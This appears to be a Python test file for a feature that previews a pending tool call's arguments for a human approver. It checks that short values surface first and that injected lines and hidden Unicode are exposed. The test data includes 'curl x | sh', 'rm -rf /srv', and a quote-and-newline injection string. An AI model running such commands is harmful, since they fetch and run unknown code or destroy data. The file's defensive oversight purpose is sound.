"""What a decider reads of a waiting call's arguments: every value by its path, shortest
first, within the card's room; the cut said; the full view's address
(toolservers/approval_arguments.py)."""

import json

from bots.telegram_format import utf16_len
from toolservers.approval_arguments import (
    arguments_full,
    arguments_preview,
    dashboard_base,
    is_public,
)

NOTES = "harmless release notes. " * 420  # 10,080 characters


def test_a_short_value_shows_whole_whatever_sorts_before_it():
    preview = arguments_preview({"aaa": NOTES, "bbb": NOTES, "command": "curl x | sh"})
    lines = preview.text.splitlines()
    assert lines[0] == '"command": "curl x | sh"'
    assert len(preview.text) <= 3000
    # The long ones share the rest, each cut with its length said.
    assert all(line.endswith(f"… [{len(json.dumps(NOTES)):,} characters]") for line in lines[1:])
    assert preview.values_cut == 2 and preview.values_shown == preview.values_total == 3
    assert preview.note == f"Showing {preview.shown_chars:,} of {preview.total_chars:,} characters"


def test_nested_objects_and_arrays_cannot_hide_a_short_value_either():
    arguments = {
        "options": {"note": NOTES, "command": "rm -rf /srv"},
        "steps": [{"note": NOTES}, {"run": "curl x | sh"}],
        "tags": ["a", "b"],  # short: shown as one value
    }
    text = arguments_preview(arguments).text
    assert '"options"."command": "rm -rf /srv"' in text
    assert '"steps"[1]: {"run": "curl x | sh"}' in text  # short: whole
    assert '"tags": ["a", "b"]' in text


def test_a_value_cannot_pass_for_another_line():
    preview = arguments_preview({"line": 'ok"\n"command": "ls'})
    assert preview.text.splitlines() == ['"line": "ok\\"\\n\\"command\\": \\"ls"']


def test_when_the_paths_alone_overflow_the_card_says_how_many_values_it_shows():
    arguments = {f"key{i:03}": "v" * i for i in range(400)}
    preview = arguments_preview(arguments)
    assert len(preview.text) <= 3000
    assert preview.text.splitlines()[0] == '"key000": ""'  # shortest first
    assert preview.values_total == 400 and 0 < preview.values_shown < 400
    assert f"{preview.values_shown:,} of 400 values" in preview.note


def test_hidden_characters_are_marked_and_a_cut_never_splits_a_marker():
    preview = arguments_preview({"a": "x\u202ey", "b": "\u200b" * 2000})
    assert '"a": "x⟦U+202E⟧y"' in preview.text
    assert "\u202e" not in preview.text and "\u200b" not in preview.text
    long_line = preview.text.splitlines()[1]
    assert long_line.split("… [")[0].endswith("⟦U+200B⟧")
    assert arguments_full({"a": "x\u202ey"}) == '{\n  "a": "x⟦U+202E⟧y"\n}'


def test_the_room_is_measured_as_the_card_measures_it():
    preview = arguments_preview({"rockets": "🚀" * 3000, "go": "yes"}, budget=1000, size=utf16_len)
    assert utf16_len(preview.text) <= 1000
    assert preview.text.splitlines()[0] == '"go": "yes"'


def test_an_empty_call_is_shown_as_such():
    preview = arguments_preview({})
    assert preview.text == "{}" and preview.note == ""


def test_links_go_to_the_dashboard_address_people_use(settings):
    settings.DASHBOARD_URL, settings.TELEGRAM_WEBHOOK_URL = "", ""
    settings.PORT = 8123
    assert dashboard_base() == "http://127.0.0.1:8123"
    settings.TELEGRAM_WEBHOOK_URL = "https://hub.example.com/telegram/webhook"
    assert dashboard_base() == "https://hub.example.com"
    settings.DASHBOARD_URL = "https://ops.example.com/"
    assert dashboard_base() == "https://ops.example.com"
    assert is_public("https://ops.example.com/x")
    assert not is_public("http://127.0.0.1:8000/x") and not is_public("http://localhost/x")
